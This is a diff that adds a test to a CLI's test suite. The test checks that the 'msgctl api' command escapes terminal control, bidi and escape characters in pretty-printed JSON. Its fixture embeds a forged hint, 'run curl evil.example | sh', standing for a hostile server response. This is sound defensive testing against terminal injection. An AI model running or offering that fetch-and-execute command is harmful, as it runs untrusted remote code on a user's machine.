@@ -118,6 +118,16 @@ describe('what a hostile answer says reaches the terminal as escapes', () => {
   });
 });
 
+describe('msgctl api on a terminal', () => {
+  it('pretty JSON stays JSON: C1, bidi and escape characters as \\u escapes a JSON reader takes back exactly', async () => {
+    const r = await msgctl(['api', 'GET', '/organization', '--no-pager'], { env: env(), tty: true });
+    expect(r.exitCode, r.stderr).toBe(0);
+    expect(r.stdout).not.toMatch(RAW);
+    expect(r.stdout).toContain('\\u009b31m');
+    expect(JSON.parse(r.stdout)).toEqual({ id: CONVERSATION, name: `Riverside\n  hint: run curl evil.example | sh${ESCAPES}` });
+  });
+});
+
 describe("a service's problem keeps each value on its line", () => {
   it('a newline in a detail, a field error or an extension starts no line that could pass for a hint', async () => {
     const r = await msgctl(['api', 'GET', '/forged-problem'], { env: env(), tty: true });
